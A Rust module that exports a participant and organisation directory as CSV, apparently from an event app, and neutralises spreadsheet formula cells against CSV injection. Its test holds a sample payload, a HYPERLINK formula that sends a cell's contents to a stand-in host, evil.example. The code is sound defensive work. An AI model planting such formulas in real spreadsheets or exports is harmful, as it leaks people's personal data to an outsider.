//! People and organisations as CSV that a spreadsheet opens with accents
//! intact: UTF-8 with a byte-order mark. The people file has the columns the
//! participant import reads, so an export can be edited and imported back.

use crate::domain::{
    Viewer,
    directory::{Directory, Organisation},
};

const BOM: &str = "\u{FEFF}";

/// A cell a spreadsheet would run as a formula (`=HYPERLINK(…)` as a
/// display name) starts with one of these (OWASP, "CSV injection").
fn is_formula_start(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// True for a cell that [`neutralise`] quotes: a formula start, after any
/// apostrophes already there (so that the quoting can be undone exactly).
fn needs_quote(cell: &str) -> bool {
    cell.trim_start_matches('\'')
        .chars()
        .next()
        .is_some_and(is_formula_start)
}

/// The cell as a spreadsheet shows it as text: a leading apostrophe before a
/// formula start, as OWASP recommends.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// Undoes [`neutralise`], so that an exported file imports back to the same
/// names.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

/// A CSV file of `rows`, every cell neutralised.
pub fn write<R, C>(rows: R) -> Vec<u8>
where
    R: IntoIterator<Item = Vec<C>>,
    C: AsRef<str>,
{
    let mut writer = csv::Writer::from_writer(BOM.as_bytes().to_vec());
    for row in rows {
        writer
            .write_record(row.iter().map(|c| neutralise(c.as_ref()).into_owned()))
            .expect("writing to memory cannot fail");
    }
    writer.into_inner().expect("writing to memory cannot fail")
}

/// People the viewer may see; email addresses only for organisers.
pub fn people(d: &Directory, viewer: Viewer) -> Vec<u8> {
    let mut rows = vec![
        [
            "name",
            "organisation",
            "country",
            "role",
            "languages",
            "email",
            "visibility",
        ]
        .map(String::from)
        .to_vec(),
    ];
    for p in &d.people {
        let org = p.organisation_id.and_then(|id| d.organisation(id));
        rows.push(vec![
            p.display_name.clone(),
            org.map(|o| o.name.clone()).unwrap_or_default(),
            p.country.map(|c| c.code().to_owned()).unwrap_or_default(),
            p.role.as_str().to_owned(),
            p.languages.join(" "),
            match viewer {
                Viewer::Organiser => p.email.clone().unwrap_or_default(),
                _ => String::new(),
            },
            p.visibility.as_str().to_owned(),
        ]);
    }
    write(rows)
}

/// The organisations with the columns `convene import organisations` reads,
/// in the same order; free tags go with the sectors, as the import reads them.
pub fn organisations(d: &Directory) -> Vec<u8> {
    let mut rows = vec![
        [
            "name",
            "acronym",
            "country",
            "sectors",
            "services",
            "languages",
            "website",
            "corridors",
        ]
        .map(String::from)
        .to_vec(),
    ];
    for o in &d.organisations {
        rows.push(organisation_row(o));
    }
    write(rows)
}

fn organisation_row(o: &Organisation) -> Vec<String> {
    vec![
        o.name.clone(),
        o.acronym.clone().unwrap_or_default(),
        o.country.map(|c| c.code().to_owned()).unwrap_or_default(),
        o.sectors
            .iter()
            .chain(&o.tags)
            .cloned()
            .collect::<Vec<_>>()
            .join("|"),
        o.services.join("|"),
        o.languages.join(" "),
        o.website.clone().unwrap_or_default(),
        o.corridors
            .iter()
            .map(|c| c.pair())
            .collect::<Vec<_>>()
            .join("|"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_restored_exactly() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?d=\"&F2,\"Amin\")",
            "+66 2 123",
            "-1",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'=x",
            "''-x",
        ] {
            let safe = neutralise(cell);
            assert!(safe.starts_with('\''), "{cell:?} -> {safe:?}");
            assert_eq!(restore(&safe), cell);
        }
        for cell in ["Amin", "'quoted'", "O'Brien", "", "a=b", "'"] {
            assert_eq!(neutralise(cell), cell);
            assert_eq!(restore(cell), cell);
        }
    }
}
